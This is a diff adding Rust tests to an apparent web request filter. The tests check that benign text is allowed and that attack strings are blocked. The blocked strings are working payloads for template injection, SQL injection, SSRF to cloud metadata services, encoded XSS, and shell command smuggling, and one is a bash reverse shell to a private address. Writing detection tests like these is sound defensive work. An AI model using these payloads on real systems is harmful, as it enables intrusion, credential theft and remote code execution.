@@ -1114,3 +1114,299 @@ fn tool_command_lines_as_whole_values_are_paranoia_2() {
         });
     }
 }
+
+/// Template languages (Jinja, Twig, Liquid, Nunjucks) pipe a value through output filters
+/// inside `{{ }}` and `{% %}`: `|join(', ')` formats, it runs no program and calls no code.
+/// A shell command after the pipe (it takes words), a call outside a filter, and the
+/// filters that take a callable or build names (`map`, `filter`, `attr`, `format`) still
+/// count; so do template engines' other gadgets.
+#[test]
+fn template_filters_versus_template_injection() {
+    for text in [
+        "{{ items|join(', ') }}",
+        "{{ price|round(2) }} EUR",
+        "{{ x|default('n/a') }}",
+        "{{ user.bio|truncate(80) }}",
+        "{{ list|sort|first }}",
+        "{{ text|split(' ')|last }}",
+        "{% for x in items|sort %}{{ x|upper }}{% endfor %}",
+        "Twig filters: {{ name|upper }} and {{ items|join(', ') }}",
+        "{{- title|replace('-', ' ')|capitalize -}}",
+        // The application's own variables whose names start like an engine's objects, and
+        // Go's (Helm's) range loop.
+        "{{ requestId }}",
+        "{{ selfie_url }}",
+        "Hi {{ requestor }}, your order shipped",
+        "{{ settingsUrl }}",
+        "{{ range .Values.hosts }}- {{ . }}{{ end }}",
+    ] {
+        each_carrier(text, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
+        });
+    }
+    for attack in [
+        "{{ x|cat /etc/passwd }}",
+        "{{x}}|id",
+        "{{ ['id']|filter('system') }}",
+        "{{ ['cat /etc/passwd']|map('system')|join }}",
+        "{{ '%c%c'|format(95,95) }}",
+        "{{ request|attr('application') }}",
+        "{{ self.__init__() }}",
+        "{{ config }}",
+        "{{request.application}}",
+        "{{ range(99999999) }}",
+        "{{lipsum.__globals__['os'].popen('id').read()}}",
+        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
+        "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
+        "<%= system(\"id\") %>",
+        "<%= File.open('/etc/passwd').read %>",
+        "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))",
+        "${\"\".getClass().forName(\"java.lang.Runtime\")}",
+        "{php}echo `id`;{/php}",
+        "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
+    ] {
+        each_carrier(attack, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
+        });
+    }
+}
+
+/// A bracket of digits is an index (XPath `book[1]`, JSON paths `items[0]`), not a glob
+/// spelling a program's letters; `c[a]t`, `/e[t]c/pa[s]swd` and `[!x]` are.
+#[test]
+fn index_brackets_versus_glob_letters() {
+    for text in [
+        "/bookstore/book[1]/title",
+        "/api/items[0]/name",
+        "XPath: /catalog/product[12]/price",
+    ] {
+        each_carrier(text, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
+        });
+    }
+    for attack in [
+        "/usr/bin/c[a]t /etc/passwd",
+        "/bin/[c]at x",
+        "/e[t]c/pa[s]swd",
+        "/bin/c[!x]t x",
+    ] {
+        each_carrier(attack, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
+        });
+    }
+}
+
+/// Issue reports and READMEs name the local address an app runs at; a server fetches a
+/// value that *is* a URL. A loopback URL inside a sentence is documentation; the same URL
+/// as the value, a metadata address anywhere and internal schemes are SSRF.
+#[test]
+fn loopback_urls_in_prose_versus_fetch_targets() {
+    for text in [
+        "Open http://localhost:3000 in your browser",
+        "Steps to reproduce: 1. run `npm start` 2. open http://localhost:3000 3. click Login",
+        "http://localhost:8080 is where the dev server listens",
+        "The app runs at http://localhost:8080/ by default",
+    ] {
+        each_carrier(text, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
+        });
+    }
+    for attack in [
+        "http://localhost:6379/",
+        "localhost:6379/",
+        "http://localhost:2375/containers/json",
+        "http://localhost:6379/\r\nSET x y\r\n",
+        "see http://169.254.169.254/latest/meta-data/ for keys",
+        "http://[fd00:ec2::254]/latest/meta-data/",
+        "http://100.100.100.200/latest/meta-data/",
+        "http://169.254.170.2/v2/credentials",
+        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
+        "gopher://localhost:25/_HELO",
+    ] {
+        each_carrier(attack, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
+        });
+    }
+}
+
+/// UI help text says "Select 'Yes' to confirm": a select list of literals without `FROM`
+/// holds no column, so words after it are a sentence. Literal selects that a database runs
+/// (an alias, `FROM dual`, `INTO OUTFILE`, a function) are statements.
+#[test]
+fn select_literal_prose_versus_statements() {
+    for text in [
+        "Select 'Yes' to confirm",
+        "Select \"Save\" and exit",
+        "Select 'All' then click OK",
+        "Please select 'Other' and describe the problem",
+    ] {
+        each_carrier(text, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
+        });
+    }
+    for attack in [
+        "select 'x' as a",
+        "select 'a' from dual",
+        "select '<?php system($_GET[1]); ?>' into outfile '/var/www/html/x.php'",
+        "select 'a' and sleep(5)",
+        "1; select 'a' b",
+        "x'; select 'a' or 1=1--",
+    ] {
+        each_carrier(attack, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
+        });
+    }
+}
+
+/// Attack grammar in carriers and encodings the dev sets seldom show: a JSON document's own
+/// operators and keys, query-string operators, double and IIS `%u` encodings, overlong UTF-8,
+/// HTML entities without `;`, LDAP and XPath filters, header splitting through a double
+/// encoding, other template engines. Each is blocked.
+#[test]
+fn carriers_and_encodings_of_other_kinds() {
+    let json = "application/json";
+    for body in [
+        r#"{"username":"admin","password":{"$gt":""}}"#,
+        r#"{"user":{"$in":["admin","root"]},"pass":{"$ne":1}}"#,
+        r#"{"filter":{"$where":"sleep(5000) || true"}}"#,
+        r#"{"user":{"__proto__":{"role":"admin"}}}"#,
+        r#"{"template":"{{lipsum.__globals__['os'].popen('id').read()}}"}"#,
+        r#"{"webhook":"http://[fd00:ec2::254]/latest/meta-data/"}"#,
+        r#"{"ldap":"*)(uid=*))(|(uid=*"}"#,
+    ] {
+        let a = body_request(json, body);
+        assert_eq!(a.verdict, Verdict::Block, "{body}: {a:?}");
+    }
+    let engine = Config::default().compile().unwrap();
+    let host = vec![("host".to_string(), "api.example".to_string())];
+    for query in [
+        "username[$ne]=x&password[$ne]=x",
+        "user[$regex]=.*&pass[$gt]=",
+        "constructor[prototype][isAdmin]=1",
+        "a[constructor][prototype][x]=1",
+        "file=..%252f..%252f..%252fetc%252fpasswd",
+        "file=%25%32%65%25%32%65%25%32%66etc/passwd",
+        "q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
+        "q=%u003Cscript%u003Ealert(1)%u003C/script%u003E",
+        "q=%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
+        "f=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
+        "q=1%2527%2520or%25201%253D1--",
+        "redirect=%250d%250aSet-Cookie:%20sid=evil",
+        "q=%3Cimg%20src=x%20onerror=%26%2397%26%23108%26%23101%26%23114%26%23116(1)%3E",
+        "q=%3Ca%20href=%22java%26%239script:alert(1)%22%3Ex%3C/a%3E",
+        "q=*)(objectClass=*",
+        "q=x'%20or%20name()='username'%20or%20'x'='y",
+        "q=#set($x=$class.inspect(%22java.lang.Runtime%22))",
+    ] {
+        let uri = format!("/search?{query}");
+        let a = engine.inspect(&Request::new("GET", &uri).with_headers(&host));
+        assert_eq!(a.verdict, Verdict::Block, "{query}: {a:?}");
+    }
+    for text in [
+        "<xi:include parse=\"text\" href=\"file:///etc/passwd\"/>",
+        "<svg onload=alert&#40;1&#41;>",
+        "<img src=x onerror=alert&lpar;1&rpar;>",
+        "' or count(/*)=1 or 'a'='b",
+        "' or string-length(//user[1]/password)>0 or ''='",
+        "1 rlike (select (case when (1=1) then 1 else 0x28 end))",
+        "';exec master..xp_cmdshell 'dir'--",
+        "$'\\x63\\x61\\x74' /etc/passwd",
+        ";X=$'cat\\x20/etc/passwd'&&$X",
+        "|| cat</etc/passwd",
+        ";cat$IFS$9/etc/passwd",
+        "& type C:\\windows\\win.ini",
+        ";bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+    ] {
+        each_carrier(text, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {text:?} -> {a:?}");
+        });
+    }
+}
+
+/// An SQL function named in a sentence (`char(10) is a newline`) is followed by words no
+/// query accepts after a call (two plain words in a row: an alias takes one); a call that
+/// goes on with an operator, a keyword or a comment is an injection.
+#[test]
+fn sql_call_in_a_sentence_versus_a_call_that_goes_on_as_sql() {
+    for text in [
+        "char(10) is a newline",
+        "concat(a, b) joins strings",
+        "Use concat(first, last) to build full names",
+    ] {
+        each_carrier(text, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
+        });
+    }
+    for attack in [
+        "1 and sleep(5)# hello world",
+        "1 and char(65) is null",
+        "x' and char(65)='A",
+        "concat(0x7e,version()) from users where 1",
+        "ascii(substr(user(),1,1)) between 60 and 70",
+        "concat(username,0x3a,password) from users",
+    ] {
+        each_carrier(attack, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
+        });
+    }
+}
+
+/// `' or '1`: the value closes the query's string, then `OR` and a string the query's own
+/// quote completes, starting with a non-zero digit (true in MySQL and PostgreSQL). Words
+/// quoted on both sides and strings that read as false are not that shape.
+#[test]
+fn or_with_a_truthy_string_completed_by_the_query() {
+    for text in [
+        "Tom' or 'Jerry",
+        "yes' or 'no",
+        "choose '1' or '2'",
+        "' or '0",
+    ] {
+        each_carrier(text, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
+        });
+    }
+    for attack in ["' or '1", "admin' oR '1", "x\" OR \"2", "' || '1"] {
+        each_carrier(attack, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
+        });
+    }
+}
+
+/// A second copy of a download is named `report - Copy (2).pdf` or `file (1).txt`: a PHP
+/// function name, a space, a number in parentheses and an extension. As a value, an upload's
+/// file name or a path segment it passes; a real call (an argument that is code or a string,
+/// no extension after it) is still PHP injection.
+#[test]
+fn numbered_copies_of_files_are_not_calls() {
+    for text in [
+        "report - Copy (2).pdf",
+        "file (1).txt",
+        "mail (2).eml",
+        "include (1).zip",
+    ] {
+        each_carrier(text, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
+        });
+        let engine = Config::default().compile().unwrap();
+        let host = vec![("host".to_string(), "files.example".to_string())];
+        let uri = format!("/files/{}", enc(text));
+        let a = engine.inspect(&Request::new("GET", &uri).with_headers(&host));
+        assert_eq!(a.verdict, Verdict::Allow, "path: {text:?} -> {a:?}");
+        let body = format!(
+            "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{text}\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7\r\n--XyZ--\r\n"
+        );
+        let a = body_request("multipart/form-data; boundary=XyZ", &body);
+        assert_eq!(a.verdict, Verdict::Allow, "upload: {text:?} -> {a:?}");
+    }
+    for attack in [
+        "system ('id')",
+        "system(1).log",
+        "file (1).txt; system($_GET[1])",
+        "file('/etc/passwd')",
+    ] {
+        each_carrier(attack, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
+        });
+    }
+}
